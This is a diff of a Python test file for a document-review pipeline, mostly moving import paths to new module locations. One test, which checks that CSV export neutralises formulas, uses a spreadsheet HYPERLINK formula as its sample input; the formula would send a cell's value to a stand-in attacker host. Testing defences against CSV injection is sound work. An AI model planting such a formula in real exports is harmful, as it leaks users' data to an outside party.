@@ -24,11 +24,11 @@ from fastapi.testclient import TestClient
 from typer.testing import CliRunner
 from review_fixtures import CASE_ID, report_data, write_report
 
-from pipeline.batch import FINGERPRINT_NAME, CaseOutcome, _commit, _is_current, case_inputs, read_manifest_table, run_batch
+from pipeline.batch.engine import FINGERPRINT_NAME, CaseOutcome, _commit, _is_current, case_inputs, read_manifest_table, run_batch
 from pipeline.commands import review as review_commands
 from pipeline.config import RunConfig
 from pipeline.errors import BatchError, CaseError, DivergenceError, LabelError, ReportError
-from pipeline.ingest import ReadOptions, read_case, read_document
+from pipeline.stages.ingest import ReadOptions, read_case, read_document
 from pipeline.labels import Label, LabelStore, flag_key
 from pipeline.manifest import load_manifest
 from pipeline.review import create_app, load_case
@@ -171,7 +171,7 @@ def test_batch_checks_documents_before_hashing_them(tmp_path: Path) -> None:
         import resource, sys
         resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
         from pathlib import Path
-        from pipeline.batch import case_inputs
+        from pipeline.batch.engine import case_inputs
         for case_dir in ({str(fifo_case)!r}, {str(zero_case)!r}):
             case, digest, size = case_inputs(case_dir, allowed_roots=(Path("/dev"),))
             print(case.id, size)
@@ -191,7 +191,7 @@ def test_a_refused_document_changes_the_fingerprint_once_fixed(tmp_path: Path, s
 
 
 def test_manifest_table_documents_stay_beside_the_table(tmp_path: Path, secret: Path) -> None:
-    from pipeline.batch import find_input
+    from pipeline.batch.engine import find_input
 
     inputs = tmp_path / "inputs"
     inputs.mkdir()
@@ -210,7 +210,7 @@ def test_manifest_table_documents_stay_beside_the_table(tmp_path: Path, secret: 
 
 
 def test_a_line_over_the_limit_is_one_line_error(tmp_path: Path) -> None:
-    from pipeline.ingest import MAX_LINE_CHARS
+    from pipeline.stages.ingest import MAX_LINE_CHARS
 
     long_line = "FOREIGN MINISTER RI: " + "We asked for five resolutions " * (MAX_LINE_CHARS // 30 + 10)
     case_dir = two_doc_case(tmp_path / "t2", "b.txt", b_content=long_line + "\n")
@@ -362,7 +362,7 @@ def test_batch_workers_die_with_a_killed_driver(tmp_path: Path) -> None:
     jobs = [two_doc_case(tmp_path / f"c{i}", "b.txt", b_content="Q Five?\n") for i in range(2)]
     script = textwrap.dedent(f"""
         import multiprocessing, sys, time
-        from pipeline.batch import BatchConfig, _Job, _local_engine
+        from pipeline.batch.engine import BatchConfig, _Job, _local_engine
         from pipeline.config import RunConfig
         if __name__ == "__main__":
             config = RunConfig(spacy_model="/no/such/model", classifier="none")
@@ -528,7 +528,7 @@ def test_labels_history_escapes_control_characters(store: LabelStore) -> None:
 def test_csv_export_neutralises_formulas_and_training_reads_them_back(store: LabelStore, tmp_path: Path) -> None:
     import pandas as pd
 
-    from pipeline.nli_data import load_user_labels
+    from pipeline.datasets.nli import load_user_labels
 
     formula = '=HYPERLINK("http://evil.example/?"&A1, "click")'
     _labelled(store, reviewer="@ann", premise=formula)
